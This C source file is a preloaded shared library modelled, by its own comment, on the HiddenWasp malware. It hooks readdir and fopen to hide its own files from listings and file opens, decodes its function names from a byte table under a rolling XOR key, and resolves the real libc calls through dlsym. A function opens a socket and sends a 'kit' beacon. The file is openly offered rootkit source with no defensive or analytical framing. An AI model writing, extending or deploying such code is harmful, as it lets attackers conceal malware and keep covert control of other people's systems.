/* A library of the kind that is preloaded, after HiddenWasp: it stands before functions of
 * the C library, hides its own files, and reaches out by what stands behind. Its texts
 * are records of a length and bytes under a key that moves on through all of them. */
#include "plugin.h"
#include "packed.h" /* records[] */
extern void *dlsym(void *, const char *);
enum { SOCKET, CONNECT, SENDTO, READDIR, FOPEN, HIDDEN, COUNT };
static char texts[COUNT][32];
static int ready;
static void unseal(void) {
    unsigned char key = 0x9d;
    const volatile unsigned char *r = records;
    if (ready++) return;
    for (int n = 0; n < COUNT; n++)
        for (unsigned i = 0, length = *r++ ^ 0x9d; i < length; i++, r++) {
            texts[n][i] = *r ^ key;
            key = key * 5 + 0x3b;
        }
}
static void *behind(int n) {
    unseal();
    return dlsym((void *)-1, texts[n]);
}
static int ours(const char *name) {
    unseal();
    for (; *name; name++)
        for (int i = 0; name[i] == texts[HIDDEN][i]; i++)
            if (!texts[HIDDEN][i + 1]) return 1;
    return 0;
}
struct entry { unsigned long inode, offset; unsigned short length; unsigned char type; char name[256]; };
__attribute__((visibility("default"))) struct entry *readdir(void *directory) {
    struct entry *(*next)(void *) = behind(READDIR), *e;
    do e = next(directory);
    while (e && ours(e->name));
    return e;
}
__attribute__((visibility("default"))) void *fopen(const char *name, const char *mode) {
    void *(*next)(const char *, const char *) = behind(FOPEN);
    return ours(name) ? 0 : next(name, mode);
}
static void act(char **env) {
    struct address to = loopback(env);
    int (*open)(int, int, int) = behind(SOCKET), (*reach)(int, const void *, unsigned) = behind(CONNECT);
    long (*say)(int, const void *, unsigned long, int, const void *, unsigned) = behind(SENDTO);
    int s = open(2, 1, 0);
    if (reach(s, &to, sizeof to) == 0) say(s, "kit", 3, 0x4000, 0, 0);
}
